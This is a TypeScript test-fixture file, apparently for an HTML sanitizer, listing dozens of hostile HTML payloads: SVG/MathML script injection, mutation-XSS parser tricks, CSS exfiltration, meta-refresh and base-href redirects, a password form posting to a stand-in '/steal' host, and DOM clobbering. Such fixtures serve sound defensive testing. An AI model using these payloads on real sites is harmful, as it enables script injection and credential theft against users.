import { elsewhere, type Hostile, lines } from './hostile-families.ts';

/** Hostile texts that change what is around them: foreign content, mutations, styles, documents, names. */

const foreign = lines(
  'SVG and MathML',
  `
  <svg onload=pwn()>
  <svg/onload=pwn()//
  <svg><script>pwn()</script></svg>
  <svg><script href="${elsewhere}/s.js" /></svg>
  <svg><script xlink:href="data:,pwn()" /></svg>
  <svg><a xlink:href="javascript:pwn()"><text x=20 y=20>x</text></a></svg>
  <svg><a><animate attributeName=href values="javascript:pwn()" /><text x=20 y=20>x</text></a></svg>
  <svg><animate onbegin=pwn() attributeName=x dur=1s>
  <svg><set attributeName="onmouseover" to="pwn()" /></svg>
  <svg><foreignObject><iframe srcdoc="<script>parent.pwn()</script>"></iframe></foreignObject></svg>
  <svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror='pwn()' /></svg>#x" /></svg>
  <svg><use xlink:href="${elsewhere}/u.svg#x" /></svg>
  <svg><image href="${elsewhere}/i.png" onerror=pwn() /></svg>
  <svg><feImage href="${elsewhere}/f.png" /></svg>
  <svg><style>@import url(${elsewhere}/s.css);</style></svg>
  <svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">pwn()</handler></svg>
  <svg xmlns="http://www.w3.org/2000/svg"><![CDATA[<script>pwn()</script>]]></svg>
  <svg><desc><![CDATA[</desc><script>pwn()</script>]]></desc></svg>
  <svg><title><img src=x onerror=pwn()></title></svg>
  <math href="javascript:pwn()">x</math>
  <math><maction actiontype="statusline#${elsewhere}" xlink:href="javascript:pwn()">x</maction></math>
  <math><annotation-xml encoding="text/html"><img src=x onerror=pwn()></annotation-xml></math>
  <math><mi xlink:href="data:x,<script>pwn()</script>">x</mi></math>
  `,
);

const mutations = lines(
  'mutations',
  `
  <noscript><p title="</noscript><img src=x onerror=pwn()>">
  <noscript><style></noscript><img src=x onerror=pwn()></style></noscript>
  <svg></p><style><a id="</style><img src=1 onerror=pwn()>">
  <svg><p><style><g title="</style><img src onerror=pwn()>">
  <svg><style><img src="</style><img src=x onerror=pwn()//">
  <svg><style>&lt;img src=x onerror=pwn()&gt;</style></svg>
  <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">
  <math><mtext><mglyph><style><img src=x onerror=pwn()></style></mglyph></mtext></math>
  <form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>
  <math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='pwn()'>">
  <form id=a><form id=b><input name=attributes><img src=x onerror=pwn()></form></form>
  <div><svg><style><!--</style><!--><img src=x onerror=pwn()>--></style></svg></div>
  <template><img src=x onerror=pwn()></template>
  <template><script>pwn()</script></template><p>x</p>
  <div><template shadowrootmode=open><img src=x onerror=pwn()></template></div>
  <select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=pwn()>">x</a>
  <xmp><p title="</xmp><img src=x onerror=pwn()>">
  <noembed><img title="</noembed><img src onerror=pwn()>"></noembed>
  <noframes><p id="</noframes><svg onload=pwn()>"></noframes>
  <textarea><p title="</textarea><img src=x onerror=pwn()>"></textarea>
  <title><p title="</title><img src=x onerror=pwn()>"></title>
  <iframe><p title="</iframe><img src=x onerror=pwn()>"></iframe>
  <plaintext><img src=x onerror=pwn()>
  <listing>&lt;img src=x onerror=pwn()&gt;</listing>
  <style><style/><img src=x onerror=pwn()>
  <style><a title="</style><img src=x onerror=pwn()>"></a>
  <!--><img src=x onerror=pwn()>-->
  <!---><img src=x onerror=pwn()>-->
  <!--x--!><img src=x onerror=pwn()>-->
  <!-- --><img src=x onerror=pwn()><!-- -->
  <!--[if IE]><script>pwn()</script><![endif]-->
  <![CDATA[<img src=x onerror=pwn()>]]>
  <?xml version="1.0"?><?import x><img src=x onerror=pwn()>
  <!doctype html [<!entity x "<script>pwn()</script>">]>&x;
  <table><caption><svg><title><style><a id="</style></title><img src=x onerror=pwn()>"></table>
  <table><tr><td><table><td><img src=x onerror=pwn()><td></table>
  <a title="&lt;img src=x onerror=pwn()&gt;">&lt;img src=x onerror=pwn()&gt;</a>
  <p>&amp;lt;script&amp;gt;pwn()&amp;lt;/script&amp;gt;</p>
  &lt;script&gt;pwn()&lt;/script&gt;
  <listing><!--</listing><img src=x onerror=pwn()>-->
  <p><![if !supportLists]><img src=x onerror=pwn()><![endif]></p>
  <p style="mso-list:l0 level1"><![if !supportLists]><script><![endif]>pwn()</script></p><p style="mso-list:l0 level2">a</p>
  <iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" onload="pwn()" srcdoc="<script>parent.pwn()</script>"></iframe>
  <iframe src='https://www.youtube.com/embed/"><img src=x onerror=pwn()>'></iframe>
  <figure class="video"><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"><img src=x onerror=pwn()></a></figure>
  <figure class="video"><a href="javascript:pwn()//youtu.be/dQw4w9WgXcQ">x</a></figure>
  <div<div>><img src=x onerror=pwn()></div>
  <div><div title="</div><img src=x onerror=pwn()>"></div></div>
  `,
);

const styles = lines(
  'CSS',
  `
  <p style="background:url(javascript:pwn())">x</p>
  <p style="background:url(${elsewhere}/p.png)">x</p>
  <p style="width:expression(pwn())">x</p>
  <p style="xss:expr/**/ession(pwn())">x</p>
  <p style="behavior:url(${elsewhere}/x.htc)">x</p>
  <p style="-moz-binding:url(${elsewhere}/x.xml#x)">x</p>
  <p style="position:fixed;inset:0;z-index:99999">Sign in again</p>
  <p style="font-weight:700;background:url(${elsewhere}/w.png)">x</p>
  <span style="font-style:italic" onclick="pwn()">x</span>
  <style>*{background:url(${elsewhere}/all.png)}</style>
  <style>@import "${elsewhere}/i.css";</style>
  <style>input[value^=a]{background:url(${elsewhere}/leak)}</style>
  <style>@font-face{font-family:x;src:url(${elsewhere}/f.woff)}</style>
  <link rel=stylesheet href="${elsewhere}/l.css">
  <link rel=preload as=image href="${elsewhere}/pre.png">
  <link rel="stylesheet" href="javascript:pwn()">
  <p class="admin-only modal-backdrop" id="root">x</p>
  `,
);

const documents = lines(
  'elements that load or lead away',
  `
  <meta http-equiv=refresh content="0;url=${elsewhere}/">
  <meta http-equiv="refresh" content="0;url=javascript:pwn()">
  <meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==">
  <meta http-equiv="Set-Cookie" content="a=b">
  <meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
  <meta charset="utf-7">
  <base href="${elsewhere}/">
  <base target="_top">
  <iframe src="javascript:pwn()"></iframe>
  <iframe srcdoc="<script>parent.pwn()</script>"></iframe>
  <iframe src="${elsewhere}/frame"></iframe>
  <frameset onload=pwn()><frame src="javascript:pwn()"></frameset>
  <object data="javascript:pwn()"></object>
  <object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduKCk8L3NjcmlwdD4="></object>
  <object classid="clsid:x"><param name=url value="${elsewhere}/o"></object>
  <embed src="${elsewhere}/e.swf" allowscriptaccess=always>
  <embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwn()'/>">
  <applet code="x" archive="${elsewhere}/a.jar"></applet>
  <portal src="${elsewhere}/"></portal>
  <img src="${elsewhere}/img.png">
  <img srcset="${elsewhere}/set.png 1x" src="/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c">
  <img src="/pictures/text/../../api/v1/me">
  <img src="/pictures/text/0b0e7b38-7b7e-4b2e-9f0a-2f6f6f0a1b2c?x=${elsewhere}">
  <picture><source srcset="${elsewhere}/source.png"><img src=x></picture>
  <video src="${elsewhere}/v.mp4" poster="${elsewhere}/poster.png" autoplay></video>
  <audio src="${elsewhere}/a.mp3" autoplay></audio>
  <track src="${elsewhere}/t.vtt">
  <form action="${elsewhere}/steal" method=post><input name=password><button>Sign in</button></form>
  <isindex action="javascript:pwn()" type=image>
  <bgsound src="javascript:pwn()">
  <layer src="${elsewhere}/l.html"></layer>
  <xml id=x src="${elsewhere}/x.xml"></xml>
  <fencedframe src="${elsewhere}/"></fencedframe>
  <script type="speculationrules">{"prefetch":[{"urls":["${elsewhere}/"]}]}</script>
  <script type="importmap">{"imports":{"x":"${elsewhere}/x.js"}}</script>
  `,
);

const clobbering = lines(
  'names that stand in the way of a script',
  `
  <img name=body><img id=cookie>
  <form name=getElementById><input id=children></form>
  <a id=config><a id=config name=url href="${elsewhere}/c">x</a>
  <p id=__proto__ name=constructor>x</p>
  <iframe name=self srcdoc="<a id=location>"></iframe>
  <form id=document><input name=parentNode><input name=nodeName></form>
  <img name=pwn>
  <h2 id="main" is="x-y" slot="z" part="q" itemscope data-action="pwn" contenteditable>x</h2>
  `,
);

export const hostileStructures: readonly Hostile[] = [...foreign, ...mutations, ...styles, ...documents, ...clobbering];
